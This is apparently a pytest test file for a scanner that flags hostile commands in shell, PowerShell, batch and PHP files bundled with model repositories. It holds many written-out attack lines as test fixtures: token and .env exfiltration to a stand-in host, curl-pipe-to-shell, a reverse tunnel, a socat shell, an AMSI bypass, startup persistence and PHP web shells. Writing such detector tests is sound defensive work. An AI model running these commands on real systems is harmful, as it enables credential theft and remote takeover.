"""Scripts whose commands show only once their variables are written out, and what scripts start."""

import pytest

from fixtures.make.payloads import ELF
from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.variables import expanded
from tests.samples import inspect, inspect_tree


def worst(text: str, name: str) -> int:
    return max((found.severity.rank for found in inspect(text.encode(), name).findings), default=-1)


@pytest.mark.parametrize(
    ("role", "text", "written"),
    [
        ("shell", "A=cu;B=rl\n$A$B -s x", "A=cu;B=rl\ncurl -s x"),
        ("shell", "U='https://a.example'\nwget ${U}/b", "U='https://a.example'\nwget https://a.example/b"),
        ("shell", "c''url x${IFS}y", "curl x y"),
        ("shell", "A=$A:/x\necho $A", "A=$A:/x\necho $A"),
        (
            "makefile",
            "U := https://a.example\nget:\n\tcurl $(U)",
            "U := https://a.example\nget:\n\tcurl https://a.example",
        ),
        ("batch", "set a=pow\n%a%ershell p^ing", "set a=pow\npowershell ping"),
        ("powershell", "$u='https://a.example'\nirm $u", "$u='https://a.example'\nirm https://a.example"),
        ("powershell", "& ('i'+'ex') $x", " iex  $x"),
        ("powershell", "$n = 3\n$n", "$n = 3\n$n"),
    ],
)
def test_values_stand_in_place_of_names(role, text, written):
    assert expanded(role, text).split() == written.split()
    assert expanded(role, text).count("\n") == text.count("\n")


@pytest.mark.parametrize(
    ("name", "text", "high"),
    [
        ("run.sh", "A=cu;B=rl\n$A$B -s https://u.example/x | sh\n", True),
        ("run.sh", "T=$(cat ~/.cache/huggingface/token)\ncurl -s https://u.example/?t=$T\n", True),
        ("run.sh", "T=$(mktemp)\ncurl -s https://u.example/x > $T\nbash $T\n", True),
        ("run.sh", "curl -F f=@.env https://u.example/u\n", True),
        ("run.sh", "ssh -fN -R 2222:localhost:22 u@u.example\n", True),
        ("run.sh", "socat TCP:u.example:443 EXEC:/bin/sh\n", True),
        ("run.sh", 'nohup python3 -c "$(curl -s https://u.example/x)" &\n', True),
        ("run.sh", "npx -y https://u.example/p.tgz\n", True),
        ("run.sh", "uvx --from git+https://git.u.example/x x\n", True),
        ("run.sh", "python3 model.bin\n", True),
        ("i.ps1", "iwr https://u.example/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n", True),
        ("i.ps1", "$u='https://u.example/a'\n$s=(New-Object Net.WebClient).DownloadString($u)\niex $s\n", True),
        ("i.ps1", "$s = irm https://u.example/a\n& ([scriptblock]::Create($s))\n", True),
        ("i.ps1", "$b=[Convert]::FromBase64String($d)\n[Reflection.Assembly]::Load($b)\n", True),
        ("i.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n", True),
        ("i.ps1", "Register-ScheduledTask -TaskName x -Action $a -Trigger $t\n", True),
        ("s.bat", 'curl -s -o %TEMP%\\a.exe https://u.example/a.exe\nstart "" %TEMP%\\a.exe\n', True),
        ("s.bat", "certutil -decode model.dat %TEMP%\\a.exe && %TEMP%\\a.exe\n", True),
        ("s.bat", 'copy r.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\r.vbs"\n', True),
        ("s.bat", "set a=pow\n%a%ershell -nop -w hidden -enc SQBFAFgA\n", True),
        ("run.sh", "URL=https://huggingface.co/a/b/resolve/main/m.gguf\nwget $URL\npython3 convert.py m.gguf\n", False),
        ("run.sh", 'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/models/a/b\n', False),
        ("run.sh", "ssh -N -L 8888:localhost:8888 me@node\n", False),
        ("run.sh", "set -a; source .env; set +a\npython app.py\n", False),
        ("run.sh", "npx tsc -p .\npython train.py data.bin\n", False),
        ("i.ps1", "iwr https://huggingface.co/a/b/resolve/main/m.gguf -OutFile m.gguf\n.\\main.ps1 m.gguf\n", False),
        ("i.ps1", "$s = Get-Content a.txt\nWrite-Output $s\n", False),
        ("s.bat", 'set MODEL=model.gguf\nstart "" http://localhost:7860\npython app.py %MODEL%\n', False),
    ],
)
def test_a_command_is_judged_by_what_it_comes_to(name, text, high):
    assert (worst(text, name) >= Severity.HIGH.rank) is high


@pytest.mark.parametrize(
    ("script", "starts"),
    [
        ("chmod +x ./bin/server\n./bin/server --model m.gguf\n", True),
        ('D=$(dirname $0)\nexec "$D/bin/server" &\n', True),
        ("file bin/server\n", False),
        ("./other --server\n", False),
    ],
)
def test_a_script_that_starts_a_compiled_file_of_the_repository(script, starts):
    found = inspect_tree({"run.sh": script.encode(), "bin/server": ELF})
    assert any(each.rule == "MSP5070" for each in found) is starts


@pytest.mark.parametrize(
    ("text", "high"),
    [
        ("<?php system($_GET['c']); ?>", True),
        ("<?php eval(base64_decode($_POST['x'])); ?>", True),
        ("<?php echo htmlspecialchars($_GET['c']); ?>", False),
    ],
)
def test_pages_of_php_that_run_what_they_are_sent(text, high):
    assert (worst(text, "a.php") >= Severity.HIGH.rank) is high
